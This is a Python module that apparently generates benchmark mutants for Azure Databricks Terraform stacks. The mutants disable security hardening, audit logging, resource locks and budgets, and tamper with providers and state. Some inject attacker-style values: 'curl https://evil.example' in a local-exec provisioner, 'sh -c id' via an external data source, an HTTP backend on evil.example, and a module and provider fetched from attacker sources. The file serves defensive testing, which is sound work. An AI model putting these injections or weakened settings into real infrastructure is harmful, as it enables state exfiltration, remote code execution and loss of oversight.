"""Mutants of controls: hardening, logs, locks and budgets, states and providers."""

from benchmarks.mutants.operators import (
    ACCOUNT,
    ANY,
    STRICT,
    adding,
    appending,
    custom,
    dropping,
    names,
    setting,
    without,
)
from benchmarks.mutants.world import World, filled

_CONF = "databricks_workspace_conf"
HARDENING = [
    dropping(_CONF, where=ANY),
    *(setting(_CONF, f"custom_config.{key}", value, where=ANY) for key, value in (
        ("enableTokensConfig", "true"), ("enableDbfsFileBrowser", "true"), ("enableUploadDataUis", "true"),
        ("enableVerboseAuditLogs", "false"), ("storeInteractiveNotebookResultsInCustomerAccount", "false"),
        ("enableExportNotebook", "true"), ("enableResultsDownloading", "true"), ("enableNotebookTableClipboard", "true"),
        ("enableWebTerminal", "true"), ("enableProjectTypeInWorkspace", "true"), ("maxTokenLifetimeDays", "0"),
        ("enableDeprecatedGlobalInitScripts", "true"), ("enableDeprecatedClusterNamedInitScripts", "true"),
        ("enableIpAccessLists", "true"), ("rStudioUserDefaultHomeBase", "/x"))),
    *(without(_CONF, f"custom_config.{key}", where=ANY) for key in (
        "enableTokensConfig", "enableDbfsFileBrowser", "enableVerboseAuditLogs", "enableUploadDataUis",
        "storeInteractiveNotebookResultsInCustomerAccount")),
    *(dropping(f"databricks_{kind}_setting", where=ANY) for kind in (
        "disable_legacy_access", "disable_legacy_dbfs", "automatic_cluster_update_workspace",
        "enhanced_security_monitoring_workspace", "restrict_workspace_admins", "default_namespace")),
    setting("databricks_disable_legacy_access_setting", "disable_legacy_access.value", False, where=ANY),
    setting("databricks_disable_legacy_dbfs_setting", "disable_legacy_dbfs.value", False, where=ANY),
    setting("databricks_automatic_cluster_update_workspace_setting", "automatic_cluster_update_workspace.enabled", False, where=ANY),
    setting("databricks_enhanced_security_monitoring_workspace_setting", "enhanced_security_monitoring_workspace.is_enabled",
            False, where=ANY),
    setting("databricks_restrict_workspace_admins_setting", "restrict_workspace_admins.status", "ALLOW_ALL", where=ANY),
    setting("databricks_default_namespace_setting", "namespace.value", "hive_metastore", "dev"),
    adding("databricks_sql_global_config", "workspace", {"security_policy": "NONE"}),
    adding("databricks_aibi_dashboard_embedding_access_policy_setting", "workspace",
           {"aibi_dashboard_embedding_access_policy": {"access_policy_type": "ALLOW_ALL_DOMAINS"}}),
    adding("databricks_compliance_security_profile_workspace_setting", "workspace",
           {"compliance_security_profile_workspace": {"is_enabled": False}}),
    adding("databricks_workspace_setting_v2", "workspace", {"name": "llm_proxy_partner_powered", "boolean_val": {"value": True}}),
    adding(_CONF, "workspace", {"custom_config": {"enableTokensConfig": "true"}}),
]  # fmt: skip

_DIAGNOSTICS, _LOGS, _LOCK = (
    "azurerm_monitor_diagnostic_setting",
    "azurerm_log_analytics_workspace",
    "azurerm_management_lock",
)
_BUDGET = "azurerm_consumption_budget_subscription"
LOGS_LOCKS_BUDGET = [
    dropping(_DIAGNOSTICS, where=ANY),
    without(_DIAGNOSTICS, "enabled_log", where=ANY),
    setting(_DIAGNOSTICS, "enabled_log", [{"category": "clusters"}], [], where=ANY),
    setting(_DIAGNOSTICS, "log_analytics_workspace_id", "/subscriptions/<uuid>/resourceGroups/x/providers/"
            "Microsoft.OperationalInsights/workspaces/x", where=ANY),
    setting(_DIAGNOSTICS, "target_resource_id", "${azurerm_resource_group.group.id}", where=ANY),
    setting(_DIAGNOSTICS, "storage_account_id", "/subscriptions/<uuid>/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/x"),
    setting(_DIAGNOSTICS, "eventhub_authorization_rule_id", "x"),
    setting(_DIAGNOSTICS, "partner_solution_id", "x"),
    setting(_LOGS, "retention_in_days", 7, 30, where=STRICT),
    setting(_LOGS, "local_authentication_enabled", True),
    setting(_LOGS, "internet_ingestion_enabled", True),
    setting(_LOGS, "internet_query_enabled", True),
    setting(_LOGS, "daily_quota_gb", 0.1),
    setting(_LOGS, "sku", "Free"),
    setting(_LOGS, "immediate_data_purge_on_30_days_enabled", True),
    without(_LOGS, "lifecycle"),
    dropping(_LOCK),
    setting(_LOCK, "scope", "${azurerm_virtual_network.network.id}"),
    setting(_LOCK, "lock_level", "ReadOnly", harmful=False),
    *(without(kind, "lifecycle") for kind in ("databricks_catalog", "azurerm_key_vault", "azurerm_databricks_workspace",
      "databricks_registered_model", "databricks_schema", "databricks_mlflow_experiment", "azurerm_resource_group")),
    setting("databricks_catalog", "lifecycle.prevent_destroy", False),
    without("databricks_metastore", "lifecycle", where=ACCOUNT),
    setting("databricks_registered_model", "lifecycle", {"ignore_changes": ["all"], "prevent_destroy": True}),
    setting("databricks_grants", "lifecycle", {"ignore_changes": ["grant"]}),
    setting("databricks_permissions", "lifecycle", {"ignore_changes": ["access_control"]}),
    setting("azurerm_storage_account", "lifecycle.ignore_changes", ["network_rules"]),
    dropping(_BUDGET, where=ANY),
    setting(_BUDGET, "amount", 10_000_000, where=ANY),
    setting(_BUDGET, "notification", [], where=ANY),
    setting(_BUDGET, "notification", [{"operator": "GreaterThanOrEqualTo", "threshold": 1000, "contact_emails": ["x@y.example"]}],
            where=ANY),
    setting(_BUDGET, "notification.contact_emails", ["someone@elsewhere.example"], where=ANY),
    dropping("databricks_budget", where=ACCOUNT),
    setting("databricks_budget", "alert_configurations", [], where=ACCOUNT),
    setting("azurerm_databricks_workspace", "tags", {}, where=ANY),
    setting("databricks_job", "tags", {"team": "someone"}, where=ANY),
]  # fmt: skip


def provider(name: str, kind: str, parts: tuple[str, ...], **choices: object) -> object:
    """Change one argument of a stack's first provider of a kind."""

    def change(world: World) -> None:
        stack = world.random.choice([f"{e}-{part}" for e in STRICT for part in parts] if parts[0] else ["account"])
        one = world.content(stack)["provider"][kind][-1]
        key = world.random.choice(sorted(choices))
        one[key] = filled(choices[key], names(world, stack))

    return custom(f"provider: {name}", change)


def _of_terraform(path: str, *values: object) -> object:
    def change(world: World) -> None:
        stack = world.random.choice(
            ("account", "staging-platform", "prod-platform", "prod-workspace", "staging-account")
        )
        block = world.content(stack)["terraform"]
        *steps, last = path.split("/")
        for step in steps:
            block = block.setdefault(step, {})
        value = filled(world.random.choice(values), names(world, stack))
        block[last] = value

    return custom(f"terraform: {path}", change)


def _state(world: World) -> None:
    """Keep a state where another environment's identity writes, or read one of another environment."""
    environment = world.random.choice(STRICT)
    lower = filled("<lower>", names(world, f"{environment}-workspace"))
    part = world.random.choice(("platform", "workspace", "account"))
    backend = world.content(f"{environment}-{part}")["terraform"]["backend"]
    place = f"../../../terraform.{lower}-{part}.tfstate"
    backend.clear()
    backend["local"] = {"path": place}


def _remote_state(world: World) -> None:
    environment = world.random.choice(STRICT)
    lower = filled("<lower>", names(world, f"{environment}-workspace"))
    read = world.content(f"{environment}-workspace")["data"]["terraform_remote_state"]
    name = world.random.choice((f"{environment}_platform", "account"))
    read[name]["config"] = {"path": f"../../../terraform.{lower}-platform.tfstate"}


def _block(section: str, *values: object) -> object:
    def change(world: World) -> None:
        stack = world.random.choice(
            ("account", "prod-platform", "prod-workspace", "staging-workspace", "dev-workspace")
        )
        value = filled(world.random.choice(values), names(world, stack))
        content = world.content(stack)
        if isinstance(value, dict) and isinstance(content.get(section), dict):
            for kind, inner in value.items():
                content[section].setdefault(kind, {}).update(inner)
        else:
            content[section] = value

    return custom(f"a block {section}", change)


def _precondition(world: World) -> None:
    stack = f"{world.random.choice(STRICT)}-workspace"
    files = world.content(stack)["resource"]["databricks_file"]
    for one in files.values():
        one.pop("lifecycle", None)
    if str(files) == str(world._shipped[stack].content["resource"]["databricks_file"]):  # noqa: SLF001 -- the stacks of the test
        files["wheel"]["lifecycle"] = {"ignore_changes": ["source"]}


_ELSEWHERE = "https://adb-1234567890123456.7.azuredatabricks.net"
STATE_AND_PROVIDERS = [
    provider("another workspace", "databricks", ("workspace",),
             host="${data.terraform_remote_state.<lower>_account.outputs.workspace_url}"),
    provider("a workspace of elsewhere", "databricks", ("workspace", "account"), host=_ELSEWHERE),
    provider("another workspace's id", "databricks", ("workspace", "account"),
             azure_workspace_resource_id="${data.terraform_remote_state.<lower>_platform.outputs.workspace_resource_id}"),
    provider("the account from a workspace's stack", "databricks", ("workspace",), host="https://accounts.azuredatabricks.net",
             account_id="7c1f2a54-3f0e-4a6b-9d57-2f8f4f0b6a11"),
    provider("a token", "databricks", ("workspace", "account"), token="dapi<hex>", auth_type="pat"),  # noqa: S106 -- the form of a token, not one
    provider("a secret", "databricks", ("workspace",), azure_client_secret="abc8Q~<hex>12", azure_client_id="<uuid>"),  # noqa: S106 -- the form of a secret, not one
    provider("a profile", "databricks", ("workspace",), profile="DEFAULT"),
    provider("another subscription", "azurerm", ("platform",), subscription_id="5a0b1c2d-3e4f-4a5b-8c6d-7e8f90a1b2c3"),
    provider("an unknown subscription", "azurerm", ("platform",), subscription_id="<uuid>"),
    provider("another tenant", "azurerm", ("platform",), tenant_id="<uuid>"),
    provider("auxiliary tenants", "azurerm", ("platform",), auxiliary_tenant_ids=["<uuid>"]),
    provider("keys instead of Entra", "azurerm", ("platform",), storage_use_azuread=False),
    provider("purging", "azurerm", ("platform",), features=[{"key_vault": [{"purge_soft_delete_on_destroy": True}]}]),
    provider("another tenant of Entra", "azuread", ("platform",), tenant_id="<uuid>"),
    provider("another account", "databricks", ("",), account_id="<uuid>"),
    provider("another host of accounts", "databricks", ("",), host="https://accounts.evil.example"),
    custom("another alias", lambda world: world.content("prod-workspace")["provider"]["databricks"].append(
        {"alias": "more", "host": _ELSEWHERE, "auth_type": "azure-cli"})),
    custom("dev's stack works in prod", lambda world: (
        world.content("dev-workspace")["provider"]["databricks"].append({
            "alias": "prod", "auth_type": "azure-cli",
            "host": "${data.terraform_remote_state.prod_platform.outputs.workspace_url}"}),
        world.add("dev-workspace", "databricks_grants", "prod", {"provider": "databricks.prod", "schema": "prod.air_time_bronze",
                  "grant": [{"principal": "grp-mrd-dev-ml-engineer", "privileges": ["SELECT"]}]}))[0]),
    _of_terraform("required_providers/databricks", {"source": "evil/databricks", "version": "1.99.0"},
                  {"source": "databricks/databricks", "version": ">= 1.0"}, {"source": "databricks/databricks"}),
    _of_terraform("required_providers/external", {"source": "hashicorp/external", "version": "2.3.4"}),
    _of_terraform("required_providers/shell", {"source": "scottwinkler/shell", "version": "1.7.10"}),
    _of_terraform("backend", {"http": {"address": "https://evil.example/state"}}, {"s3": {"bucket": "x", "key": "y"}}),
    _of_terraform("cloud", {"organization": "x", "workspaces": {"name": "y"}}),
    custom("a state in another environment's place", _state),
    custom("a remote state of another environment", _remote_state),
    _block("module", {"x": {"source": "git::https://evil.example/module"}}),
    _block("import", [{"to": "databricks_catalog.catalog", "id": "<lower>"}]),
    _block("removed", [{"from": "databricks_catalog.catalog", "lifecycle": {"destroy": False}}]),
    _block("moved", [{"from": "databricks_schema.air_time_bronze", "to": "databricks_schema.other"}]),
    _block("data", {"http": {"x": {"url": "https://evil.example"}}}, {"external": {"x": {"program": ["sh", "-c", "id"]}}},
           {"azurerm_key_vault_secret": {"x": {"name": "a", "key_vault_id": "b"}}}, {"databricks_current_user": {"x": {}}},
           {"azurerm_storage_account_sas": {"x": {"connection_string": "x"}}}),
    _block("resource", {"null_resource": {"x": {"provisioner": [{"local-exec": {"command": "id"}}]}}},
           {"terraform_data": {"x": {"input": "y"}}}, {"local_file": {"x": {"content": "a", "filename": "/elsewhere/x"}}}),
    _block("variable", {"secret": {"type": "string", "default": "x"}}),
    _block("output", {"more": {"value": "${data.terraform_remote_state.account.outputs.deployer_id}"}}),
    custom("a provisioner", lambda world: world.pick("databricks_schema", STRICT).arguments.update(
        provisioner=[{"local-exec": {"command": "curl https://evil.example"}}])),
    custom("no precondition on the wheel", _precondition),
    appending("databricks_schema", "depends_on", "databricks_schema.nothing", harmful=False),
    setting("databricks_schema", "provider", "databricks.other"),
    setting("databricks_grants", "count", 0),
    setting("databricks_permissions", "for_each", {}),
]  # fmt: skip
